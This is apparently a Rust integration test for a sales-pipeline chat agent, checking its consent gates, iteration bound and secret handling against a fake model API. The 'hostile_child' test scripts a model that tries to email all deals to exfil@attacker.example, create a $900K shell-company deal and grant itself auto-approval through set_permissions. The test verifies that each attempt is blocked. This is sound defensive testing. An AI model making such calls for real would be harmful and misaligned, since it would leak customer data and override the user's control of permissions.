#![allow(clippy::unwrap_used)]
//! The chat loop end to end: the real Anthropic client over loopback HTTP to the fake
//! Messages API, the pure FSM, the tool registry and `core::consent::gate` with default
//! permissions on surface `chat`. The test plays the runtime (and the user's answers).

use dealflow::agent::{self, tools};
use dealflow::core::agent::{Agent, Effect, Event, GateOutcome, Phase, TurnEnd};
use dealflow::core::consent::{Consent, Evidence};
use dealflow::core::domain::{ActionKind, ActionParams};
use dealflow::core::permissions::Permissions;
use dealflow::llm::{
    AnthropicClient, AnthropicConfig, ApiKey, LanguageModel, RetryPolicy, TurnRequest,
};
use dealflow::sandbox::fake_llm::{FakeLlm, Reply, TurnBuilder};
use serde_json::{Value, json};
use std::collections::VecDeque;
use std::time::Duration;

const API_KEY: &str = "sk-ant-api03-THE-REAL-KEY-ONLY-IN-A-HEADER";
/// Stands in for a Token Vault federated token the runtime holds for connectors.
const VAULT_TOKEN: &str = "ya29.FAKE-VAULT-TOKEN-must-never-reach-the-model";

struct Run {
    gates: Vec<(String, GateOutcome)>,
    executed: Vec<ActionParams>,
    end: Option<TurnEnd>,
}

fn client(fake: &FakeLlm) -> AnthropicClient {
    AnthropicClient::new(AnthropicConfig {
        base_url: fake.base_url(),
        model: "claude-test".into(),
        max_tokens: 256,
        read_timeout: std::time::Duration::from_secs(120),
        api_key: ApiKey::new(API_KEY).unwrap(),
        retry: RetryPolicy {
            base_backoff: Duration::from_millis(1),
            ..RetryPolicy::default()
        },
    })
    .unwrap()
}

/// A connector stand-in: it holds the vault token (as the real one will) and answers.
fn execute(params: &ActionParams, vault_token: &str) -> Result<String, String> {
    assert!(!vault_token.is_empty());
    match params {
        ActionParams::GetDeal { deal_id } => Ok(format!(
            "{deal_id}: Acme platform renewal, $75,000, negotiation"
        )),
        other => Ok(format!("done: {}", other.kind())),
    }
}

/// Drives one user turn to its end, answering step-up prompts from `answers`.
async fn drive(
    model: &dyn LanguageModel,
    agent: &mut Agent,
    perms: &Permissions,
    text: &str,
    mut answers: VecDeque<bool>,
) -> Run {
    let mut run = Run {
        gates: vec![],
        executed: vec![],
        end: None,
    };
    let mut fx: VecDeque<Effect> = agent.handle(Event::UserMessage(text.into())).into();
    loop {
        while let Some(effect) = fx.pop_front() {
            match effect {
                Effect::StartStream { messages, .. } => {
                    let mut s = model.stream_turn(TurnRequest {
                        system: Some(agent::CHAT_SYSTEM.into()),
                        messages: agent::to_llm_messages(&messages),
                        tools: tools::chat_tools(),
                        tool_choice: None,
                    });
                    while let Some(item) = s.next().await {
                        if let Some(ev) = agent::to_event(item) {
                            fx.extend(agent.handle(ev));
                        }
                    }
                }
                Effect::SubmitTool { call } => {
                    let ev = agent::gate_event(&call, perms, 1.0, None);
                    if let Event::Gate { outcome, .. } = &ev {
                        run.gates.push((call.name.clone(), outcome.clone()));
                    }
                    fx.extend(agent.handle(ev));
                }
                Effect::Execute { call, .. } => {
                    let params = tools::parse_call(&call.name, &call.input).unwrap();
                    let result = execute(&params, VAULT_TOKEN);
                    run.executed.push(params);
                    fx.extend(agent.handle(Event::ToolResult {
                        call_id: call.id,
                        result,
                    }));
                }
                Effect::TurnEnded(end) => run.end = Some(end),
                Effect::AbortStream | Effect::CancelCiba { .. } => {}
            }
        }
        match agent.phase().clone() {
            Phase::AwaitingConfirm { call, .. } => {
                let approve = answers.pop_front().unwrap_or(false);
                fx.extend(agent.handle(Event::Confirm {
                    call_id: call.id,
                    approve,
                }));
            }
            Phase::Idle => return run,
            other => panic!("stuck in {other:?}"),
        }
    }
}

fn last_user_blocks(body: &Value) -> Vec<Value> {
    body["messages"].as_array().unwrap().last().unwrap()["content"]
        .as_array()
        .unwrap()
        .clone()
}

#[tokio::test]
async fn tool_use_then_tool_result_then_text() {
    let fake = FakeLlm::start(vec![
        TurnBuilder::new()
            .text(&["Looking that up."])
            .tool_use("toolu_a", "get_deal", &json!({"deal_id": "deal-acme"}))
            .build(),
        TurnBuilder::new()
            .text(&["Acme is at ", "$75,000 in negotiation."])
            .build(),
    ])
    .await
    .unwrap();
    let model = client(&fake);
    let mut agent = Agent::new(8);
    let run = drive(
        &model,
        &mut agent,
        &Permissions::default(),
        "show acme",
        VecDeque::new(),
    )
    .await;

    assert_eq!(run.end, Some(TurnEnd::Completed));
    assert_eq!(
        run.gates,
        vec![("get_deal".to_string(), GateOutcome::Allow)]
    );
    assert_eq!(run.executed.len(), 1);
    let reqs = fake.requests();
    assert_eq!(reqs.len(), 2);
    let blocks = last_user_blocks(&reqs[1].body);
    assert_eq!(blocks[0]["type"], "tool_result");
    assert_eq!(blocks[0]["tool_use_id"], "toolu_a");
    assert!(blocks[0]["content"].as_str().unwrap().contains("$75,000"));
    assert!(blocks[0].get("is_error").is_none());
    // The assistant's tool_use went back verbatim before the result.
    let msgs = reqs[1].body["messages"].as_array().unwrap();
    assert_eq!(
        msgs[1]["content"][1]["input"],
        json!({"deal_id": "deal-acme"})
    );
    assert_eq!(
        agent.history().last().unwrap().blocks,
        vec![dealflow::core::agent::Block::Text(
            "Acme is at $75,000 in negotiation.".into()
        )]
    );
    // Every tool in the request came from the registry; none touches permissions.
    let names: Vec<&str> = reqs[0].body["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert_eq!(names.len(), ActionKind::ALL.len());
    assert!(names.iter().all(|n| !n.contains("permission")));
}

/// The hostile test runs in a child process whose environment holds the API key and a
/// vault-like token (setting variables in this multi-threaded process would race).
#[test]
fn hostile_script_gets_nothing_past_the_gates_and_leaks_no_secret() {
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            "hostile_child",
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env("ANTHROPIC_API_KEY", API_KEY)
        .env("DEALFLOW_TEST_VAULT_TOKEN", VAULT_TOKEN)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("1 passed"), "{stdout}");
}

#[tokio::test]
#[ignore = "run by hostile_script_gets_nothing_past_the_gates_and_leaks_no_secret"]
async fn hostile_child() {
    assert_eq!(
        std::env::var("DEALFLOW_TEST_VAULT_TOKEN").unwrap(),
        VAULT_TOKEN
    );
    let fake = FakeLlm::start(vec![
        TurnBuilder::new()
            .text(&["Sure, doing all of that now."])
            .tool_use(
                "toolu_mail",
                "send_email",
                &json!({"to": ["exfil@attacker.example"], "subject": "pipeline dump", "body": "all deals attached"}),
            )
            .tool_use(
                "toolu_deal",
                "create_deal",
                &json!({"name": "Totally real deal", "account": "Shell Co", "amount_cents": 90_000_000}),
            )
            .tool_use(
                "toolu_perm",
                "set_permissions",
                &json!({"send_email": "auto", "create_deal": "auto"}),
            )
            .build(),
        Reply::text("None of that went through."),
    ])
    .await
    .unwrap();
    // The key comes from the environment, as in production.
    let model = AnthropicClient::from_env(&dealflow::config::LlmSection {
        base_url: fake.base_url(),
        ..Default::default()
    })
    .unwrap();
    let perms = Permissions::default();
    let mut agent = Agent::new(8);
    // The user says no to both inline prompts.
    let run = drive(
        &model,
        &mut agent,
        &perms,
        "summarise my pipeline",
        VecDeque::from([false, false]),
    )
    .await;

    assert!(run.executed.is_empty(), "executed {:?}", run.executed);
    assert_eq!(run.gates.len(), 3);
    let (name, g) = &run.gates[0];
    assert_eq!(name, "send_email");
    match g {
        GateOutcome::StepUp { prompt, .. } => {
            assert!(prompt.contains("exfil@attacker.example"), "{prompt}");
            assert!(prompt.contains("all deals attached"), "{prompt}");
        }
        other => panic!("email must need step-up, got {other:?}"),
    }
    match &run.gates[1].1 {
        GateOutcome::StepUp { reason, prompt } => {
            assert!(reason.contains("$900,000 > threshold $50,000"), "{reason}");
            assert!(prompt.contains("$900,000"), "{prompt}");
        }
        other => panic!("$900K deal must need step-up, got {other:?}"),
    }
    match &run.gates[2].1 {
        GateOutcome::Refused { reason } => assert!(reason.contains("unknown tool"), "{reason}"),
        other => panic!("permission change must be refused, got {other:?}"),
    }

    // The executor's own proof check agrees: without the step-up nothing can run.
    for (name, input) in [
        (
            "send_email",
            json!({"to": ["exfil@attacker.example"], "subject": "pipeline dump", "body": "all deals attached"}),
        ),
        (
            "create_deal",
            json!({"name": "Totally real deal", "account": "Shell Co", "amount_cents": 90_000_000}),
        ),
    ] {
        let call = dealflow::core::agent::ToolCall {
            id: "x".into(),
            name: name.into(),
            input,
        };
        let g = agent::gate_chat_call(&call, &perms, 1.0).unwrap();
        assert!(Consent::grant(&g.decision, &g.params, Evidence::Autonomous).is_err());
        assert!(
            Consent::grant(
                &g.decision,
                &g.params,
                Evidence::SteppedUp {
                    actor: "user".into(),
                    at: 0
                }
            )
            .is_ok()
        );
    }

    // All three refusals went back to the model as is_error tool_results, in order.
    let reqs = fake.requests();
    assert_eq!(reqs.len(), 2);
    let blocks = last_user_blocks(&reqs[1].body);
    let ids: Vec<&str> = blocks
        .iter()
        .map(|b| b["tool_use_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["toolu_mail", "toolu_deal", "toolu_perm"]);
    assert!(blocks.iter().all(|b| b["is_error"] == json!(true)));
    assert!(
        blocks[2]["content"]
            .as_str()
            .unwrap()
            .contains("unknown tool")
    );
    assert_eq!(run.end, Some(TurnEnd::Completed));

    // No secret in any body; the API key only in its header.
    for r in &reqs {
        assert!(!r.raw_body.contains(VAULT_TOKEN));
        assert!(!r.raw_body.contains("FAKE-VAULT"));
        assert!(!r.raw_body.contains(API_KEY));
        assert_eq!(r.header("x-api-key"), Some(API_KEY));
        for (k, v) in &r.headers {
            if k != "x-api-key" {
                assert!(!v.contains(API_KEY), "key leaked in header {k}");
                assert!(!v.contains(VAULT_TOKEN), "vault token in header {k}");
            }
        }
    }
}

#[tokio::test]
async fn step_up_approved_runs_exactly_once() {
    let fake = FakeLlm::start(vec![
        TurnBuilder::new()
            .tool_use(
                "toolu_m",
                "send_email",
                &json!({"to": ["bill@initech.example"], "subject": "Seat plan", "body": "Hi Bill"}),
            )
            .build(),
        Reply::text("Sent."),
    ])
    .await
    .unwrap();
    let model = client(&fake);
    let mut agent = Agent::new(8);
    let run = drive(
        &model,
        &mut agent,
        &Permissions::default(),
        "email bill",
        VecDeque::from([true]),
    )
    .await;
    assert_eq!(run.executed.len(), 1);
    assert_eq!(run.executed[0].kind(), ActionKind::SendEmail);
    let blocks = last_user_blocks(&fake.requests()[1].body);
    assert_eq!(blocks[0]["content"], "done: send_email");
}

#[tokio::test]
async fn the_iteration_bound_holds_against_a_model_that_never_stops() {
    let looping = (0..5)
        .map(|i| {
            TurnBuilder::new()
                .tool_use(&format!("toolu_{i}"), "list_deals", &json!({}))
                .build()
        })
        .collect();
    let fake = FakeLlm::start(looping).await.unwrap();
    let model = client(&fake);
    let mut agent = Agent::new(3);
    let run = drive(
        &model,
        &mut agent,
        &Permissions::default(),
        "loop",
        VecDeque::new(),
    )
    .await;
    assert_eq!(run.end, Some(TurnEnd::IterationLimit(3)));
    assert_eq!(fake.requests().len(), 3);
    assert_eq!(fake.remaining(), 2);
}

#[tokio::test]
async fn a_model_error_ends_the_turn_with_the_typed_message() {
    let fake = FakeLlm::start(vec![Reply::error(
        400,
        "invalid_request_error",
        "tools.0: bad schema",
    )])
    .await
    .unwrap();
    let model = client(&fake);
    let mut agent = Agent::new(3);
    let run = drive(
        &model,
        &mut agent,
        &Permissions::default(),
        "x",
        VecDeque::new(),
    )
    .await;
    match run.end {
        Some(TurnEnd::Failed(msg)) => {
            assert!(msg.contains("invalid_request_error"), "{msg}");
            assert!(msg.contains("req_fake_0001"), "{msg}");
        }
        other => panic!("{other:?}"),
    }
}
